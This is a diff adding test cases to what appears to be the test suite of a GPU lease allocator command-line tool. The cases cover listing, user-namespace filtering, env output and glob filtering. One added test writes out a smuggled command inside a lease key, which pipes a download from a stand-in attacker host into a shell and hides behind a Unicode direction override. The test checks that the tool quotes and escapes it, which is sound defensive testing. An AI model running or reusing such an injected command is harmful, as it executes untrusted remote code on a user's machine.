@@ -304,7 +304,13 @@ describe('allocate, release and allocations', () => {
       LEASE,
     ]);
     assert.deepEqual(lines[2], ['user/me', 'v/gpu: g0 g1', 'impaired', '-', 'release --key job', '0', LEASE]);
+    // A command to copy runs nothing that the owner of the key chose.
+    const key = 'job; curl http://evil.example/x | sh #\u202e';
+    const odd = { ...given, owner: { bind: 'key', namespace: 'user', name: 'me' }, key, state: 'active', uid: 7 };
     const json = JSON.parse((await run(['allocations', '--root', root, '-o', 'json'])).stdout) as { pid: number }[];
+    allocator.leases = [odd];
+    const shownOdd = (await run(['allocations', '--root', root])).stdout;
+    assert.match(shownOdd, / release --key 'job; curl http:\/\/evil\.example\/x \| sh #\\u\{202e\}' /);
     assert.deepEqual(
       json.map(({ pid }) => pid),
       [77, 0],
@@ -326,6 +332,13 @@ describe('allocate, release and allocations', () => {
       assert.match(stderr, new RegExp(`the lease theirs is uid ${String(uid + 1)}'s and left out: sudo -u`));
     }
     assert.equal((await run(['allocations', '--root', root, '-o', 'name'])).stdout, `${LEASE}\ntheirs\n`);
+    allocator.callerUid = uid + 1; // in another user namespace this user is that one
+    const inside = await run(['allocations', '--root', root, '-o', 'env']);
+    assert.match(inside.stdout, /^# theirs: .*\nexport PATH=\/tmp\/theirs\n$/);
+    assert.match(inside.stderr, new RegExp(`the lease ${LEASE} is uid ${String(uid)}'s and left out`));
+    allocator.callerUid = undefined;
+    const globbed = async (glob: string) => (await run(['allocations', glob, '--root', root, '-o', 'name'])).stdout;
+    assert.deepEqual([await globbed('v/g*'), await globbed('w/*')], [`${LEASE}\ntheirs\n`, '']);
     const wide = (await run(['allocations', '--root', root, '-o', 'wide'])).stdout.split('\n');
     assert.match(wide[0] ?? '', /^OWNER .* LEASE +KEY +CDI$/);
     assert.match(wide[1] ?? '', / plugin-broker\/lease=\S+ vendor\.example\/gpu=g0$/);
